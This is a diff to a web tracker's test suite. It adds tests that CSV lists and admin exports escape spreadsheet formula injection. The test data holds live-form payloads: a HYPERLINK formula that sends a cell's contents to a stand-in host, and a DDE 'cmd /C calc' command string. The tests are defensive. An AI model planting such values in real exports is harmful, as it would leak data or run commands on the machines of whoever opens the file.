@@ -85,7 +85,7 @@ def test_every_list_answers_csv_with_one_row_per_item_and_a_stable_header(assess
     assert [r["id"] for r in rows(response)] == [str(item["id"]) for item in page["results"]]
     assert response["X-Total-Count"] == str(page["count"])
     # The header comes from the serializer: a page past the filters' end has the same one.
-    empty = client.get(f"/api/v1/{route}/", {"format": "csv", "updated_since": "2999-01-01T00:00:00Z"})
+    empty = client.get(f"/api/v1/{route}/", {"format": "csv", "updated_since": "2199-01-01T00:00:00Z"})
     assert header(empty) == header(response) and rows(empty) == []
 
 
@@ -260,3 +260,55 @@ def test_admin_exports_what_the_changelist_shows(assessed, roles, client):
     assert {r["kind"] for r in table} == {"airstrike"}
     # A filter the changelist does not know is its usual error page, not a file.
     assert client.get("/admin/tracker/incident/export/", {"nonsense": "1"})["Location"].endswith("?e=1")
+
+
+HOSTILE = {
+    "title": '=HYPERLINK("http://x.example/?"&A1,"click")',
+    "description": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "target_description": "\t=1+1",
+}
+
+
+def _hostile_incident():
+    return IncidentFactory(
+        **HOSTILE, status="verified", place=PlaceFactory(name="-1+1", latitude=-33.5, longitude=-70.6), killed_low=3
+    )
+
+
+def _neutralised(table: list[dict]) -> None:
+    (row,) = table
+    assert row["title"] == "'" + HOSTILE["title"]
+    assert row["description"] == "'" + HOSTILE["description"]
+    assert row["target_description"] == "'" + HOSTILE["target_description"]
+    assert row["place.name"] == "'-1+1"
+    # Numbers stay numbers, even negative ones.
+    assert (row["place.latitude"], row["place.longitude"], row["killed_low"]) == ("-33.5", "-70.6", "3")
+    for cells in table:
+        assert not any(v.startswith(("=", "+", "@", "\t", "\r")) for v in cells.values())
+
+
+def test_csv_cells_cannot_start_a_formula_in_lists_and_exports(roles, client_for):
+    _hostile_incident()
+    client = client_for("anonymous")
+    listed = client.get("/api/v1/incidents/", {"format": "csv"})
+    _neutralised(list(csv.DictReader(io.StringIO(listed.content.decode()))))
+    exported = client.get("/api/v1/incidents/export/", {"format": "csv"})
+    _neutralised(list(csv.DictReader(io.StringIO(streamed(exported)))))
+    places = list(csv.DictReader(io.StringIO(client.get("/api/v1/places/", {"format": "csv"}).content.decode())))
+    assert [p["name"] for p in places] == ["'-1+1"]
+
+
+def test_admin_csv_export_cannot_start_a_formula(roles, client):
+    from tests.factories import UserFactory
+
+    _hostile_incident()
+    client.force_login(UserFactory(username="reviewer", roles=["reviewer"]))
+    _neutralised(list(csv.DictReader(io.StringIO(streamed(client.get("/admin/tracker/incident/export/"))))))
+
+
+def test_neutralise_and_restore_are_inverse():
+    from tracker.csv_cells import neutralise, restore
+
+    for text in ["=1", "+1", "-1", "@x", "\tx", "\rx", "'Tis", "''x", "'=x", "plain", "", "'"]:
+        assert restore(neutralise(text)) == text
+        assert not neutralise(text).startswith(("=", "+", "-", "@", "\t", "\r"))
